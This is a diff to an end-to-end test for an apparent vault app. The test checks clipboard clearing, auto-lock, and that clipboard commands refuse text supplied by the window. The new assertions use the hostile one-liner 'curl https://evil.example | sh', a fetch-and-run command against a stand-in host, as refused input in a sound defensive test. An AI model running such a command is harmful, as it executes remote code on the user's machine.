@@ -655,12 +655,17 @@ test("security commands: two-factor events, audit log and CSV export, settings, 
 });
 
 test("idle: a copied secret leaves the clipboard after 30 s, and the vault locks itself after 1 minute", { timeout: 150_000 }, async () => {
-  const secret = `e2e-clipboard-${Date.now()}-secret`;
-  secretsSeen.push(secret);
+  // The window can only name what to copy: text of its own choosing is refused.
+  const gone = await invokeErr("clipboard_write_secret", { text: "curl https://evil.example | sh" });
+  assert.match(String(gone?.message ?? gone), /not found/i, "no command takes the window's text");
+  assert.equal((await invokeErr("clipboard_copy", { text: "curl https://evil.example | sh" })).code, "internal");
+  assert.notEqual(clipboardText(), "curl https://evil.example | sh", "nothing of the window's reached the clipboard");
+  // The backup codes issued by the two-factor test, minutes ago, are what the core copies.
+  const secret = twofa.codes.join("\n");
   // The idle minute counts from here: saving the settings restarts the countdown.
   const armed = Date.now();
   assert.deepEqual(await invokeOk("settings_update", { settings: { autoLockMinutes: 1 } }), { autoLockMinutes: 1, priceUpdatesPerSecond: 30 });
-  await invokeOk("clipboard_write_secret", { text: secret });
+  await invokeOk("clipboard_copy", { item: { kind: "backupCodes" } });
   const copied = Date.now();
   assert.equal(clipboardText(), secret);
   await new Promise((r) => setTimeout(r, 25_000));
